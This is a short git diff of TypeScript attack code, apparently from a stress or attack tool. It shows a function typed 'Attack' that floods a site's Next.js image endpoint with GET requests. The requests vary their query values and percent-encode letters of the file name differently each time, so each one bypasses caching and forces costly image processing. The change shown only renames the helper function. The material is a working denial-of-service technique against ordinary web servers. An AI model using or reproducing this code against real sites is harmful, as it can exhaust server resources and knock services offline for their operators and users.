@@ -61,12 +61,12 @@ export const pictureQueries: Attack = async (site) => {
   const sources = scaled.map(([, url = '', width = '']) => ({ url, width }));
   await floodWithGets(site, (n) => {
     const { url, width } = sources[n % sources.length] ?? { url: '', width: '' };
-    return `/_next/image?url=${written(url, n)}%3Fx%3D${n}&w=${width}&q=75&y=${n}`;
+    return `/_next/image?url=${respelled(url, n)}%3Fx%3D${n}&w=${width}&q=75&y=${n}`;
   });
 };
 
 /** Percent-encodes some letters of the file name needlessly, different ones each time. */
-function written(url: string, n: number): string {
+function respelled(url: string, n: number): string {
   const at = url.lastIndexOf('%2F') + 3;
   let bit = 0;
   const name = url.slice(at).replace(/[a-z]/g, (letter) => {
